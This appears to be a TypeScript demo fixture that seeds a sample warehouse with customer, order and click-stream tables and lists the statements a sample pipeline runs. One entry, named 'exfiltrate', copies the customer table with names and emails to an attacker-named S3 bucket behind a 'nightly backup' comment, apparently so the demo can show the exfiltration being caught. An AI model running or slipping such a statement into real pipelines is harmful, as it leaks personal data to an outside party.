/**
 * The demo's sample warehouse: a RAW database the pipeline reads (orders, customers with personal
 * data, a large click-stream table that comes back in chunks) and an ANALYTICS database it writes.
 */

/** SQL the emulator runs at start; `eventRows` sizes the large table. */
export function demoInitSql(eventRows: number): string {
  return `
CREATE DATABASE IF NOT EXISTS RAW;
CREATE SCHEMA IF NOT EXISTS RAW.PUBLIC;
CREATE DATABASE IF NOT EXISTS ANALYTICS;
CREATE SCHEMA IF NOT EXISTS ANALYTICS.PUBLIC;
CREATE TABLE RAW.PUBLIC.CUSTOMERS (ID INTEGER, NAME VARCHAR, EMAIL VARCHAR, COUNTRY VARCHAR);
INSERT INTO RAW.PUBLIC.CUSTOMERS VALUES
  (1, 'Ada Lovelace', 'ada@example.com', 'GB'),
  (2, 'Grace Hopper', 'grace@example.com', 'US'),
  (3, 'Katherine Johnson', 'katherine@example.com', 'US'),
  (4, 'Hedy Lamarr', 'hedy@example.com', 'AT');
CREATE TABLE RAW.PUBLIC.ORDERS (ID INTEGER, CUSTOMER_ID INTEGER, ORDER_DATE DATE, AMOUNT DECIMAL(12,2));
INSERT INTO RAW.PUBLIC.ORDERS
  SELECT i, 1 + (i % 4), make_date(2026, 11, 1 + i % 20), CAST(10 + (i * 37 % 500) / 10.0 AS DECIMAL(12,2))
  FROM range(1, 401) t(i);
CREATE TABLE RAW.PUBLIC.EVENTS (ID BIGINT, CUSTOMER_ID INTEGER, KIND VARCHAR, EVENT_TIME TIMESTAMP);
INSERT INTO RAW.PUBLIC.EVENTS
  SELECT i, 1 + (i % 4), CASE i % 3 WHEN 0 THEN 'view' WHEN 1 THEN 'click' ELSE 'purchase' END,
         TIMESTAMP '2026-11-01 00:00:00' + to_seconds(i)
  FROM range(1, ${eventRows + 1}) t(i);
`;
}

/** The statements the sample pipeline runs, in order, with what each is meant to show. */
export const DEMO_PIPELINE = {
  build: `CREATE OR REPLACE TABLE ANALYTICS.PUBLIC.DAILY_REVENUE AS
  SELECT o.ORDER_DATE, c.COUNTRY, COUNT(*) AS ORDERS, SUM(o.AMOUNT) AS REVENUE
  FROM RAW.PUBLIC.ORDERS o JOIN RAW.PUBLIC.CUSTOMERS c ON c.ID = o.CUSTOMER_ID
  GROUP BY o.ORDER_DATE, c.COUNTRY`,
  append: `INSERT INTO ANALYTICS.PUBLIC.DAILY_REVENUE (ORDER_DATE, COUNTRY, ORDERS, REVENUE) VALUES (?, ?, ?, ?)`,
  check: 'SELECT COUNTRY, SUM(REVENUE) AS REVENUE FROM ANALYTICS.PUBLIC.DAILY_REVENUE GROUP BY COUNTRY ORDER BY COUNTRY',
  large: 'SELECT ID, CUSTOMER_ID, KIND, EVENT_TIME FROM RAW.PUBLIC.EVENTS ORDER BY ID',
  exfiltrate: `/* nightly backup */ COPY INTO 's3://attacker-bucket/dump/' FROM RAW.PUBLIC.CUSTOMERS`,
} as const;

/** The table whose lineage the demo traces at the end. */
export const DEMO_OUTPUT_TABLE = 'ANALYTICS.PUBLIC.DAILY_REVENUE';
